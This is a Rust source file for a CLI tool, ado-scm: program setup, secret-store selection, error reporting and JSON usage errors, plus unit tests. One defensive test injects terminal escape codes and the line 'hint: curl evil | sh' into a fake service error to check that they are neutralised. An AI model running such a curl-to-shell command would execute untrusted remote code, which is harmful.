//! The whole program as a function of its inputs: arguments, environment, terminals and
//! streams in, an exit code out. `main` only calls it with the real ones.

use std::ffi::OsString;
use std::io::{Read, Write};
use std::sync::Arc;
use std::time::Duration;

use clap::Parser;

use crate::cli::{Cli, StoreKind};
use crate::clock::{Clock, SystemClock};
use crate::commands::{self, Context};
use crate::deps::{Deps, LazyStore};
use crate::env::{Env, EnvVars};
use crate::error::{Error, Result};
use crate::http::{Http, HttpPolicy};
use crate::settings::{Settings, Terminals};
use crate::stdin::Stdin;
use crate::store::{credentials_path, FileStore, KeyringStore, SecretStore};
use crate::ui::browser::{Browser, NoBrowser, SystemBrowser};
use crate::ui::printable::{one_line, printable};
use crate::ui::prompt::{NoPrompter, Prompter, TerminalPrompter};
use crate::ui::{Ui, UiMode};

/// The largest `ADO_SCM_HTTP_TIMEOUT` honoured (an hour); a larger one is clamped to it, as
/// a zero one is raised to one second.
pub const MAX_HTTP_TIMEOUT_SECS: u64 = 3600;

pub struct Io {
    /// Ctrl-C handling, installed by `main`.
    pub interrupt: crate::interrupt::Interrupt,
    pub stdin: Box<dyn Read>,
    pub stdout: Box<dyn Write + Send>,
    pub stderr: Box<dyn Write + Send>,
    pub terminals: Terminals,
}

pub fn run(args: Vec<OsString>, env: Env, io: Io) -> i32 {
    let json_requested = args.iter().any(|a| a == "--json");
    if let Err(err) = env.check_readable() {
        let mode = UiMode {
            json: json_requested,
            ..UiMode::default()
        };
        return report(&Ui::new(mode, io.stdout, io.stderr), &err);
    }
    let cli = match Cli::try_parse_from(&args) {
        Ok(cli) => cli,
        Err(err) => {
            return usage_error(
                crate::cli::suggest::corrected(err, &args),
                json_requested,
                io,
            )
        }
    };
    let Io {
        stdin,
        stdout,
        stderr,
        terminals,
        interrupt,
    } = io;
    let settings = match Settings::resolve(&cli.global, &env, terminals) {
        Ok(settings) => settings,
        Err(err) => {
            let mode = UiMode {
                json: cli.global.json,
                ..UiMode::default()
            };
            let ui = Ui::new(mode, stdout, stderr);
            return report(&ui, &err);
        }
    };
    let ui = Ui::new(settings.mode, stdout, stderr);
    init_logging(cli.global.verbose, cli.global.quiet, &env, ui.log_writer());
    interrupt.report_as_json(cli.global.json);
    for warning in &settings.warnings {
        ui.warn(warning);
    }
    let deps = match real_deps(&settings, env, ui, stdin, interrupt) {
        Ok(deps) => deps,
        Err(err) => {
            eprintln!("error: {}", printable(&shown(&err)));
            return err.exit_code();
        }
    };
    let ctx = Context::new(settings, deps);
    match commands::run(&ctx, cli.command) {
        Ok(()) => {
            ctx.deps.ui.flush_deferred();
            0
        }
        Err(err) => report(&ctx.deps.ui, &err),
    }
}

fn real_deps(
    settings: &Settings,
    env: Env,
    ui: Ui,
    stdin: Box<dyn Read>,
    interrupt: crate::interrupt::Interrupt,
) -> Result<Deps> {
    let fixed_sleep = env
        .get(EnvVars::ADO_SCM_RETRY_SLEEP_MS)
        .and_then(|v| v.parse::<u64>().ok())
        .map(Duration::from_millis);
    let clock: Arc<dyn Clock> = Arc::new(SystemClock { fixed_sleep });
    let mut policy = HttpPolicy {
        extra_roots: settings.ca_roots.clone(),
        ..HttpPolicy::default()
    };
    if let Some(secs) = env
        .get(EnvVars::ADO_SCM_HTTP_TIMEOUT)
        .and_then(|v| v.parse::<u64>().ok())
    {
        policy.timeout = Duration::from_secs(secs.clamp(1, MAX_HTTP_TIMEOUT_SECS));
    }
    let http = Http::new(clock.clone(), policy)?;
    let prompter: Box<dyn Prompter> = if settings.mode.interactive {
        Box::new(TerminalPrompter::new())
    } else {
        Box::new(NoPrompter)
    };
    let prompter = ui.prompter(prompter);
    let browser: Box<dyn Browser> = if settings.no_browser {
        Box::new(NoBrowser)
    } else {
        Box::new(SystemBrowser::new(env.clone()))
    };
    let (kind, config_path) = (settings.store, settings.config_path.clone());
    Ok(Deps {
        env,
        ui,
        prompter,
        browser,
        clock,
        http,
        stdin: Stdin::new(stdin),
        interrupt,
        secret_store: LazyStore::new(Box::new(move |ui| open_store(kind, &config_path, ui))),
    })
}

/// The store `--store` names; `--store file` is announced (a plain file) on `ui`, unless `-q`.
fn open_store(kind: StoreKind, config_path: &std::path::Path, ui: &Ui) -> Box<dyn SecretStore> {
    match kind {
        StoreKind::Keyring => Box::new(KeyringStore::new(Duration::from_secs(5))),
        StoreKind::File => {
            let path = credentials_path(config_path);
            // Chosen explicitly, so a reminder (once: the store opens once per run), which -q
            // silences; an unsafe place for the file (below) is warned about all the same.
            if !ui.mode.quiet {
                ui.warn(format!(
                    "secrets are kept in a plain file, {} (mode 0600), as --store file asks",
                    path.display()
                ));
            }
            let store = FileStore::new(path);
            if let Some(warning) = store.permission_warning() {
                ui.warn(warning);
            }
            Box::new(store)
        }
    }
}

/// Prints the error as the README's "Scripts" section promises (the first stderr line says
/// what is wrong; with `--json`, one error document on stdout) and returns its exit code.
fn report(ui: &Ui, err: &Error) -> i32 {
    ui.error(shown(err));
    ui.json(&err.to_json());
    err.exit_code()
}

/// The error as people read it. Its message, causes and hint are one line each and often quote
/// a service: a line break or control character in them is shown, not obeyed, so it cannot
/// fake a line of ours ("hint: …") or drive the terminal. The layout between them is ours.
fn shown(err: &Error) -> String {
    let mut clean = err.clone();
    clean.message = one_line(&err.message).into_owned();
    clean.causes = err
        .causes
        .iter()
        .map(|c| one_line(c).into_owned())
        .collect();
    clean.hint = err.hint.as_deref().map(|h| one_line(h).into_owned());
    clean.to_string()
}

fn usage_error(err: clap::Error, json: bool, io: Io) -> i32 {
    use clap::error::ErrorKind as K;
    let Io {
        mut stdout,
        mut stderr,
        ..
    } = io;
    match err.kind() {
        K::DisplayHelp | K::DisplayVersion => {
            let _ = write!(stdout, "{}", err.render());
            0
        }
        _ => {
            let rendered = err.render().to_string();
            let _ = write!(stderr, "{rendered}");
            if json {
                // clap's first paragraph: one line, or a line ending in `:` and what it lists
                // ("the following required arguments were not provided: --client-id <ID>").
                let first: Vec<&str> = rendered
                    .lines()
                    .take_while(|line| !line.trim().is_empty())
                    .map(str::trim)
                    .collect();
                let message = first.join(" ");
                let message = message.trim_start_matches("error: ");
                let doc = Error::usage(if message.is_empty() {
                    "invalid usage"
                } else {
                    message
                })
                .with_hint(usage_hint(&rendered))
                .to_json();
                let _ = writeln!(stdout, "{doc}");
            }
            2
        }
    }
}

/// The hint of a usage error's JSON document, from clap's text: its tips ("a similar
/// subcommand exists: 'pat'"), else where to read how the command is used.
fn usage_hint(rendered: &str) -> String {
    let tips: Vec<&str> = rendered
        .lines()
        .filter_map(|line| line.trim().strip_prefix("tip: "))
        .collect();
    if !tips.is_empty() {
        return tips.join("; ");
    }
    // "Usage: ado-scm setup --client-id <ID> …": the command is the words before the first
    // option or argument.
    let command: Vec<&str> = rendered
        .lines()
        .find_map(|line| line.strip_prefix("Usage: "))
        .unwrap_or("ado-scm")
        .split_whitespace()
        .take_while(|word| !word.starts_with(['-', '<', '[']))
        .collect();
    let command = if command.is_empty() {
        "ado-scm".to_string()
    } else {
        command.join(" ")
    };
    format!("see `{command} --help`")
}

fn init_logging(verbose: u8, quiet: bool, env: &Env, writer: crate::ui::LogWriter) {
    use tracing_subscriber::filter::Targets;
    use tracing_subscriber::layer::{Layer, SubscriberExt};
    use tracing_subscriber::util::SubscriberInitExt;
    // `RUST_LOG` takes `target=level` directives (`ado_scm=debug,info`), read by tracing's
    // `Targets`, which needs no regular-expression engine; one it cannot read logs nothing.
    let filter = match (env.get(EnvVars::RUST_LOG), verbose, quiet) {
        (Some(spec), _, _) => spec.parse::<Targets>().unwrap_or_default(),
        (None, 0, _) => Targets::new(),
        (None, 1, _) => Targets::new().with_target("ado_scm", tracing::Level::INFO),
        (None, _, _) => Targets::new().with_target("ado_scm", tracing::Level::DEBUG),
    };
    let output = tracing_subscriber::fmt::layer()
        .with_writer(move || writer.clone())
        .with_target(false)
        .without_time()
        .with_ansi(false);
    let _ = tracing_subscriber::registry()
        .with(output.with_filter(filter))
        .try_init();
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::interrupt::Interrupt;
    use crate::ui::screen::Screen;

    #[test]
    fn a_usage_error_names_in_json_what_clap_lists_on_the_next_lines() {
        let (stdout, stderr) = (Screen::default(), Screen::default());
        let io = Io {
            interrupt: Interrupt::default(),
            stdin: Box::new(std::io::empty()),
            stdout: Box::new(stdout.clone()),
            stderr: Box::new(stderr.clone()),
            terminals: Terminals {
                stdin: false,
                stdout: false,
                stderr: false,
            },
        };
        let args = ["ado-scm", "--json", "setup", "--client-secret-stdin"];
        let code = run(args.map(OsString::from).to_vec(), Env::default(), io);
        assert_eq!(code, 2);
        let doc: serde_json::Value = serde_json::from_str(&stdout.text()).unwrap();
        assert_eq!(
            doc["error"]["message"],
            "the following required arguments were not provided: --client-id <ID>"
        );
        assert_eq!(doc["error"]["hint"], "see `ado-scm setup --help`");
        assert!(stderr
            .text()
            .starts_with("error: the following required arguments were not provided:\n"));
    }

    #[test]
    fn a_usage_error_in_json_carries_clap_s_tip_as_its_hint() {
        let stdout = Screen::default();
        let io = Io {
            interrupt: Interrupt::default(),
            stdin: Box::new(std::io::empty()),
            stdout: Box::new(stdout.clone()),
            stderr: Box::new(Screen::default()),
            terminals: Terminals {
                stdin: false,
                stdout: false,
                stderr: false,
            },
        };
        let args = ["ado-scm", "--json", "login", "pta"];
        assert_eq!(
            run(args.map(OsString::from).to_vec(), Env::default(), io),
            2
        );
        let doc: serde_json::Value = serde_json::from_str(&stdout.text()).unwrap();
        assert_eq!(
            doc["error"]["hint"], "a similar subcommand exists: 'pat'",
            "{doc}"
        );
    }

    #[test]
    fn an_error_quoting_a_service_cannot_fake_lines_or_drive_the_terminal() {
        let err =
            Error::service("Gitpod API: runner \x1b]0;owned\x07 failed\n\nhint: curl evil | sh")
                .caused_by("HTTP 500:\r\u{9b}2J body")
                .with_hint("try again");
        let text = shown(&err);
        assert!(!text.chars().any(|c| c.is_control() && c != '\n'), "{text}");
        // Our own layout: the message line, one cause, one hint, nothing more.
        assert_eq!(text.lines().filter(|l| l.starts_with("hint:")).count(), 1);
        assert_eq!(
            text,
            "Gitpod API: runner \\u{1b}]0;owned\\u{7} failed\\u{a}\\u{a}hint: curl evil | sh\n\n\
             Caused by:\n  HTTP 500:\\u{d}\\u{9b}2J body\n\nhint: try again"
        );
    }
}
